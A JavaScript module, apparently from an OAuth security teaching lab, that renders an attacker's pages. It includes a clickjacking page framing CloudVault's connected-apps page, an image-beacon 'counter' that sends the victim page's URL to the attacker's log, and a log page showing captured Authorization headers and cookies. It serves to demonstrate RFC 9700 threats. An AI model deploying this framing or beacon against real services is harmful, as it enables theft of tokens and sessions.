/** Her pages. Plain on purpose: nobody needs a good-looking attacker. */
const page = (title, body) => `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><meta name="viewport" content="width=device-width"><title>${title}</title></head>
<body><main><h1>${title}</h1>${body}</main></body>
</html>`

const escaped = (text) =>
  String(text).replace(/[&<>"]/g, (sign) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[sign])

export function shop() {
  return page(
    'Free prints, today only',
    '<p>This is Mallory’s. In the attack labs, what is stolen arrives here.</p><p><a href="/log">What reached her</a> · <a href="/frame">A page in a frame</a></p>',
  )
}

/** CloudVault's pages refuse to be framed, and this is where to see it. Half seen here, unseen in the wild. RFC 9700 §4.16 */
export function framing(vault, wanted) {
  const address = wanted?.startsWith(`${vault}/`) ? wanted : `${vault}/connected-apps`
  return page(
    'Win a camera',
    `<button>Win it</button><iframe title="CloudVault" src="${escaped(address)}" width="1000" height="1600" style="opacity:.2"></iframe>`,
  )
}

/** A visitor counter: one picture, and the address of the page that it stands on. RFC 9700 §4.3.2 */
export function counter(log) {
  return `new Image().src = ${JSON.stringify(log)} + '?' + new URLSearchParams({ page: location.href })`
}

export function logPage(lines) {
  const rows = lines.map(({ method, url, authorization, referer, cookie }) => {
    const cells = [`${method} ${url}`, authorization ?? '', referer ?? '', cookie ?? '']
    return `<tr>${cells.map((text) => `<td>${escaped(text)}</td>`).join('')}</tr>`
  })
  const head = '<tr><th>Request</th><th>Authorization</th><th>Referer</th><th>Cookie</th></tr>'
  return page(
    'What reached Mallory',
    lines.length === 0 ? '<p>Nothing yet.</p>' : `<table>${head}${rows.join('')}</table>`,
  )
}
